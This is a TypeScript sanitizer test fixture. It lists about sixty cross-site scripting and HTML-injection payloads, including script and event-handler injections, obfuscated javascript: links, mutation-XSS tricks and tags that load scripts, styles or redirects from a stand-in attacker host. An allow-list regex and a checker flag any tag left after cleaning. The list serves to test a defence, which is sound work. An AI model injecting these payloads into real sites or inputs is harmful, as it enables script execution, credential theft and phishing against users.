/** Nothing that runs, loads or frames may be left of these; written so that a browser would take them. */
export const ATTACKS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/x>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="/files/a.png" onerror="alert(1)">',
  '<img/src="/files/a.png"/onload=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="//evil.example/pixel.gif">',
  '<img src="http://evil.example/pixel.gif">',
  '<img src="/files/../api/user/logout">',
  '<img srcset="https://evil.example/a 1x" src="/files/a.png">',
  '<img lowsrc="javascript:alert(1)" dynsrc="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="&#106;&#97;vascript:alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61lert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="/\t/evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="https:\\\\evil.example" style="position:fixed">x</a>',
  '<a href="/list" onmouseover="alert(1)" style="background:url(javascript:alert(1))">x</a>',
  '<a href=\'/list" onfocus="alert(1)" autofocus="\'>x</a>',
  '<a href="/list" target="_top" ping="https://evil.example">x</a>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<form action="https://evil.example"><input name="password"><button formaction="javascript:alert(1)">x</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<base href="https://evil.example/">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style>body{background:url("javascript:alert(1)")}</style>',
  '<p style="background:url(https://evil.example/a)">x</p>',
  '<p id="root" class="x" data-x="y" onclick="alert(1)">x</p>',
  '<table background="javascript:alert(1)"><td background="https://evil.example">x</td></table>',
  '<td colspan="9999999999" rowspan="1 onclick=alert(1)">x</td>',
  '<video src="https://evil.example/a.mp4" onloadstart=alert(1)><source onerror=alert(1)></video>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<body onload=alert(1)>x</body>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea></textarea><img src=x onerror=alert(1)></textarea>',
  '<template><script>alert(1)</script></template>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  '<img src="/files/a.png" alt="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<p>"><script>alert(1)</script>',
];

/** What may stand in the result: the allowed elements with the allowed attributes, values without quotes or brackets. */
const TAG = new RegExp(
  '^<(?:' +
    '/?(?:h[234]|p|blockquote|figure|figcaption|strong|b|em|i|u|s|sub|sup|ul|ol|li|table|caption|thead|tbody|tr|th|td)' +
    '|br /|hr /|a|/a' +
    '|(?:th|td)(?: (?:col|row)span="\\d{1,2}")+' +
    '|a href="(?:/[^/\\\\"<>][^"<>]*|/|https?://[^"<>\\\\]+" rel="noopener noreferrer nofollow" target="_blank)"' +
    '|img src="(?:/files/|https://)[^"<>]*" alt="[^"<>]*"(?: (?:width|height)="\\d{1,4}")* /' +
    ')>$',
);

/** Elements of a cleaned text that may not be there. */
export const harmfulTags = (html: string): string[] =>
  (html.match(/<[^>]*>?/g) ?? []).filter((tag) => !TAG.test(tag));
